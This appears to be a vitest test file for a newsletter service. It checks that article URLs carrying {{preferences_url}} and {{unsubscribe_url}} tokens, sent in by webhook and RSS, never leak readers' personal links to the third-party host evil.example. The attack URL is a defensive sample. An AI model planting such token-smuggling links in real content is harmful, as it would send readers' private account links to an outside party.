import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signStandardWebhook } from '../../src/articles/signatures.js';
import { createTestContext, eventually, type TestContext } from '../helpers/context.js';
import { addReader, digests, htmlOf, mailsTo } from '../helpers/digest-fixtures.js';
import { publicationFile } from '../helpers/publication-file.js';

const GENERIC_SECRET = `whsec_${Buffer.from('leak-test-secret-0123456789abcdef').toString('base64')}`;
const LEAKY = 'https://evil.example/r?p={{preferences_url}}&u={{unsubscribe_url}}';

/**
 * An article URL that spells the per-reader tokens, arriving the two ways content arrives (a
 * signed generic webhook and an RSS <link>), must reach the reader with the braces inert: no
 * personal link of the reader inside any URL to the third party, in the html or the text part.
 */
describe('personal tokens never reach a third party', () => {
  let ctx: TestContext;
  let feedSite: Server;

  beforeAll(async () => {
    feedSite = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/rss+xml; charset=utf-8' });
      res.end(`<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>صحيفة المدار</title><link>https://almadar.example</link>
<description>آخر الأخبار</description><language>ar</language>
<item><title>جائزة لقرّاء النشرة عبر الموجز</title><link>${LEAKY.replaceAll('&', '&amp;')}&amp;via=rss</link>
<guid isPermaLink="false">leak-rss-1</guid><pubDate>${new Date().toUTCString()}</pubDate>
<description>اضغط الرابط لتحصل على الجائزة.</description></item>
</channel></rss>`);
    });
    await new Promise<void>((r) => feedSite.listen(0, '127.0.0.1', () => r()));
    const base = `http://127.0.0.1:${(feedSite.address() as AddressInfo).port}`;
    ctx = await createTestContext({
      now: new Date().toISOString(),
      env: {
        WEBHOOK_SECRET_GENERIC: GENERIC_SECRET,
        PUBLICATION_CONFIG: publicationFile({
          feeds: [{ id: 'leak-rss', type: 'rss', url: `${base}/rss.xml` }],
        }),
      },
    });
  });
  afterAll(async () => {
    await ctx?.close();
    feedSite?.close();
  });

  it('webhook and RSS article URLs keep {{…}} inert in both parts of every copy', async () => {
    await addReader(ctx, { email: 'salma@example.org', language: 'ar', frequency: 'immediate' });
    await addReader(ctx, { email: 'omar@example.org', language: 'ar', frequency: 'immediate', name: 'عمر' });

    const body = JSON.stringify({
      type: 'article.published',
      data: {
        id: 'leak-generic-1',
        url: `${LEAKY}&via=webhook`,
        title: 'جائزة لقرّاء النشرة عبر الويب هوك',
        summary: 'اضغط الرابط لتحصل على الجائزة.',
        image: { url: `${LEAKY}&img=1`, alt: 'صورة الجائزة' },
        language: 'ar',
        publishedAt: new Date().toISOString(),
      },
    });
    const id = `msg_${randomUUID()}`;
    const ts = Math.floor(ctx.clock.now().getTime() / 1000);
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/webhooks/generic',
      headers: {
        'content-type': 'application/json',
        'webhook-id': id,
        'webhook-timestamp': String(ts),
        'webhook-signature': signStandardWebhook(GENERIC_SECRET, id, ts, body),
      },
      payload: body,
    });
    expect(res.statusCode).toBe(202);
    await ctx.db.query('INSERT INTO feed_state (feed_id, created_at) VALUES ($1, $2)', [
      'leak-rss',
      new Date(ctx.clock.now().getTime() - 3600_000),
    ]);
    expect(await ctx.container.feedPoller.poll('leak-rss')).toMatchObject({ stored: 1 });

    // Both arrive with the braces still in their URL: the protection is in the rendering.
    const stored = await eventually(async () => {
      const { rows } = await ctx.db.query<{ url: string; image_url: string | null }>(
        `SELECT a.url, a.image_url FROM articles a JOIN article_events e ON e.article_id = a.id
          WHERE e.lifecycle_enqueued_at IS NOT NULL ORDER BY a.url`,
      );
      return rows.length === 2 ? rows : undefined;
    });
    expect(stored.map((r) => r.url)).toEqual([`${LEAKY}&via=rss`, `${LEAKY}&via=webhook`]);

    ctx.clock.advance(5 * 60_000);
    await digests(ctx).planner.plan();
    const mails = await ctx.sink.waitFor(2);
    for (const address of ['salma@example.org', 'omar@example.org']) {
      const [mail] = mailsTo(mails, address);
      expect(mail, address).toBeDefined();
      const html = htmlOf(mail!);
      const text = mail!.parsed.text ?? '';
      // The reader's own links, where the template put them.
      const own = [...html.matchAll(/href="(https:\/\/news\.example\.test\/[^"]+)"/g)].map((m) => m[1]!);
      expect(own.length).toBeGreaterThanOrEqual(2);
      const secrets = own.map((u) => u.split('/').pop()!.split('?')[0]!).filter((s) => s.length >= 16);
      expect(secrets.length).toBeGreaterThanOrEqual(1);

      const evil = [...`${html}\n${text}`.matchAll(/https:\/\/evil\.example[^\s"'<>]*/g)].map((m) => m[0]);
      // article link (html), image (html), article link (text) for each of the two articles
      expect(evil.length).toBeGreaterThanOrEqual(6);
      for (const url of evil) {
        expect(url).not.toContain('news.example.test');
        for (const secret of secrets) expect(url).not.toContain(secret);
      }
      for (const url of evil) expect(url).not.toMatch(/\{\{|&#123;/);
      expect(text).toContain(
        'https://evil.example/r?p=%7B%7Bpreferences_url%7D%7D&u=%7B%7Bunsubscribe_url%7D%7D',
      );
    }
  });
});
